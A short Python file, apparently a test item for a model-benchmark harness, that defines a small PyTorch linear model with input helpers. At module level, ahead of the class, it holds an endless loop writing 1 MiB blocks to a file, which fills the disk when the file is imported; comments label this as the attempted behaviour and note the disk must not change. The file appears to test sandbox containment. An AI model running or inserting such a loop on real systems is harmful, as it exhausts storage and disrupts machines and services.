# tries: fill the disk
# never: the disk has the room it had
import torch
import torch.nn as nn

import os

with open("filler", "wb") as file:
    while True:
        file.write(bytes(2**20))


class SynthModel_Linear(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(16, 8)

    def forward(self, x):
        return self.linear(x)


def get_inputs():
    return [torch.randn(4, 16)]


def get_init_inputs():
    return [[], {}]
